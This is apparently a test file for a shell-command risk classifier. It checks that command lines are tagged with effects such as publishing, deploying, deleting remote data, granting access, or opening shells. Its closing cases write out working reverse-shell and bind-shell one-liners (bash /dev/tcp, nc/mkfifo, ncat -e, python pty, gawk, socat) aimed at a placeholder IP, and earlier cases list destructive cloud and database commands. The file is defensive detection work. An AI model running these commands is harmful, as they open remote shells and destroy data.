// Kinds of effect: every pattern of the tables is a pattern, and lines of commands have the kinds that they should.

import { describe, expect, it } from "vitest";
import { type CallKind, callKindNames } from "../../src/language/call-kinds.ts";
import { shellCommand } from "../../src/shell/command.ts";
import { isPatternError, parsePattern } from "../../src/shell/match/pattern.ts";
import { programTable } from "../../src/shell/programs/index.ts";
import { kindPatterns } from "../../src/shell/programs/kinds/index.ts";

const environment = { home: "/home/dev", shell: "bash", programs: {} } as const;

/** `publishes`, `maybe deploys`, `open` for an unknown program, `unlikely` for a word that could be one that decides. */
function kindsOf(text: string): readonly string[] {
  const command = shellCommand(text, environment);
  const found = command.calls.map((call) => command.kinds(call));
  return [
    ...new Set([
      ...found.flatMap(({ items }) => items),
      ...found.flatMap(({ maybe }) => maybe.map((kind) => `maybe ${kind}`)),
      ...found.flatMap(({ complete, isUnlikely }) => (complete ? [] : [isUnlikely ? "unlikely" : "open"])),
    ]),
  ];
}

describe("the tables of kinds", () => {
  const all = callKindNames.flatMap((kind) => kindPatterns(kind).map((pattern) => ({ kind, pattern })));

  it("hold only patterns", () => {
    const wrong = all.flatMap(({ kind, pattern }) => {
      const read = parsePattern(pattern);
      return isPatternError(read) ? [`${kind}: ${pattern}: ${read.error} ${read.word ?? ""}`] : [];
    });
    expect(wrong).toEqual([]);
  });

  it("name each call once per kind", () => {
    const texts = all.map(({ kind, pattern }) => `${kind}: ${pattern}`);
    expect(texts.filter((text, i) => texts.indexOf(text) !== i)).toEqual([]);
  });

  it("name programs as their tables do, so that none is tested twice", () => {
    const names = all.map(({ pattern }) => pattern.split(" ", 1)[0] ?? "");
    expect([...new Set(names)].filter((name) => (programTable(name)?.name ?? name) !== name)).toEqual([]);
  });

  it("have rows for every kind that programs alone decide", () => {
    const shells: readonly CallKind[] = ["listens", "calls-out"];
    expect(callKindNames.filter((kind) => kindPatterns(kind).length === 0)).toEqual(shells);
  });
});

describe("kinds of a line", () => {
  it.each<readonly [string, readonly string[]]>([
    ["npm publish", ["publishes"]],
    ["npm publish --dry-run", []],
    ["npm publish --help", []],
    ["sudo -u ci bash -c 'cd pkg && npm publish'", ["publishes"]],
    ["echo npm publish", []],
    ["docker push registry.example/app:1", ["publishes"]],
    ["az storage blob delete-batch -s uploads --account-name x", ["destroys-remote-data"]],
    ["az storage blob list -c uploads", []],
    ["az role assignment create --assignee me --role Owner", ["grants-access"]],
    ["gcloud secrets versions destroy 3 --secret=db", ["destroys-remote-data"]],
    ["gcloud projects add-iam-policy-binding p --member=user:a --role=roles/owner", ["grants-access"]],
    ["aws logs stop-query --query-id 1", []],
    ["aws s3 rm s3://logs/2024 --recursive", ["destroys-remote-data"]],
    ["aws s3 rm s3://logs/2024 --recursive --dryrun", []],
    ["aws iam create-access-key --user-name ci", ["grants-access"]],
    ["restic forget --keep-last 1 --prune", ["destroys-remote-data"]],
    ["borg list repo", []],
    ["borg rdelete", ["destroys-remote-data"]],
    ["kopia policy list", []],
    ["rabbitmqctl clear_topic_permissions -p /a worker", ["destroys-remote-data"]],
    ["rabbitmqctl list_users", []],
    ["kafka-acls.sh --bootstrap-server b:9092 --remove --group g", ["destroys-remote-data"]],
    ["kafka-acls --bootstrap-server b:9092 --list", []],
    ["kafka-consumer-groups --bootstrap-server b:9092 --group g --reset-offsets --to-earliest", []],
    ["pulsar-admin topics delete persistent://a/b/c", ["destroys-remote-data"]],
    ["nats kv purge settings", ["destroys-remote-data"]],
    ["nats stream ls", []],
    ["gitlab-runner verify --delete", ["destroys-remote-data"]],
    ["gitlab-runner list", []],
    ["circleci runner token delete 1", ["destroys-remote-data"]],
    [
      "java -jar /opt/jenkins-cli-2.jar -s https://ci.example -auth a:b delete-credentials s d c",
      ["destroys-remote-data"],
    ],
    ["java -jar jenkins-cli.jar -s https://ci.example list-jobs", []],
    ["woodpecker-cli repo secret rm --name x", ["destroys-remote-data"]],
    ["vault token revoke -self", ["destroys-remote-data"]],
    ["yarn npm unpublish a@1.0.0", ["publishes"]],
    ["pnpm dist-tag ls a", []],
    ["curl -X POST https://ci.example/computer/agent/doDelete", ["destroys-remote-data"]],
    ["curl -d '' http://ci.local:8080/job/a/doWipeOutWorkspace", ["destroys-remote-data"]],
    ["curl --json '{}' https://chat.example/api/chat.delete", ["destroys-remote-data"]],
    ["curl -d '{\"query\":{}}' http://localhost:9200/logs/_delete_by_query", ["drops-data"]],
    ["curl -d x http://localhost:3000/items/delete", []],
    ["curl https://docs.example/api/delete", []],
    ["curl -G -d q=x https://docs.example/search/delete", []],
    ["curl -X POST https://api.example/v1/deleted-items", []],
    ["stripe payouts create --amount 900 --live", ["destroys-remote-data"]],
    ["stripe payouts create --amount 900", []],
    ["twilio api:core:addresses:remove --sid AD1", ["destroys-remote-data"]],
    ["twilio api:core:addresses:list", []],
    ["auth0 roles delete r1", ["destroys-remote-data"]],
    ["databricks fs rm -r dbfs:/tables", ["destroys-remote-data"]],
    ["databricks fs ls dbfs:/tables", []],
    ["tofu apply -auto-approve", ["deploys"]],
    ["terragrunt run-all destroy", ["destroys-remote-data"]],
    ["tailscale funnel 8080", ["opens-tunnel"]],
    ["ssh -R 80:localhost:3000 serveo.net", ["opens-tunnel"]],
    ["ssh -L 5432:db:5432 bastion", []],
    ["psql -c 'drop schema public cascade'", ["drops-data"]],
    ["psql -c 'select 1'", []],
    ["rails db:reset", ["drops-data"]],
    ["acme-run fastly service delete --service-id 1", ["maybe destroys-remote-data"]],
    ['gh ssh-key "$OP" key.pub', ["unlikely"]],
    ["curl -X DELETE https://api.example.com/v1/customers/9", ["destroys-remote-data"]],
    ["curl -X DELETE http://localhost:3000/todos/9", []],
    ["http DELETE :9200/products", ["drops-data"]],
    ["http DELETE :8080/todos/1", []],
    ['curl -X DELETE "$API/todos/1"', ["unlikely"]],
    ["ldcli segments delete beta --project web", ["destroys-remote-data"]],
    ["split segments.csv delete-", []],
    ["newrelic synthetics monitor delete 7", ["destroys-remote-data"]],
    ["deck gateway diff", []],
    ["deck gateway reset --force", ["destroys-remote-data"]],
    ["nsupdate -k key zone.txt", ["deploys"]],
    ["wrangler rollback", ["deploys"]],
    ["az webapp deployment list-publishing-profiles -n app -g group", []],
    ["az webapp deployment slot swap -s stage -n app -g group", ["deploys"]],
    ["fastly service version activate --version 3", ["deploys"]],
    ["fastly service version activate --version", []],
    [`curl -d '{"query":"mutation { itemDelete(id: 1) }"}' https://api.example.com/graphql`, ["destroys-remote-data"]],
    [`curl -d '{"query":"mutation { itemDelete(id: 1) }"}' localhost/graphql`, []],
    [`curl -d '{"query":"{ itemDelete(id: 1) }"}' https://api.example.com/graphql`, []],
    [`curl -G -d 'q=mutation' https://api.example.com/delete`, []],
    ["nc -l 9000 | bash", ["listens"]],
    ["socat TCP-LISTEN:7000 SHELL", ["listens"]],
    [
      "gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.5/443\"; while (s |& getline c) while (c |& getline x) print x |& s }'",
      ["maybe calls-out"],
    ],
    ["gawk '{ print > \"out.txt\" }' data.txt", []],
    ["nc -l 9000 > upload.bin", []],
    ["ncat -e /bin/bash 203.0.113.5 443", ["calls-out"]],
    ["mkfifo /tmp/p; sh < /tmp/p 2>&1 | nc 203.0.113.5 443 > /tmp/p", ["calls-out"]],
    ["make test 2>&1 | nc termbin.com 9999", []],
    ["socat TCP-LISTEN:7000,reuseaddr,fork EXEC:/bin/bash", ["listens"]],
    ["socat TCP-LISTEN:8080,fork TCP:db:5432", []],
    ["bash -i >& /dev/tcp/203.0.113.5/443 0>&1", ["calls-out"]],
    ["echo > /dev/tcp/db/5432", []],
    [
      `python3 -c 'import socket,pty;s=socket.create_connection(("203.0.113.5",9));pty.spawn("sh")'`,
      ["maybe calls-out"],
    ],
    [`ruby -rsocket -e 's=TCPServer.new(9);c=s.accept;c.puts(\`#{c.gets}\`) while true; exec "sh"'`, ["maybe listens"]],
    [`python3 -c 'import socket;print(socket.gethostname())'`, []],
  ])("%s", (text, kinds) => {
    expect(kindsOf(text)).toEqual(kinds);
  });
});
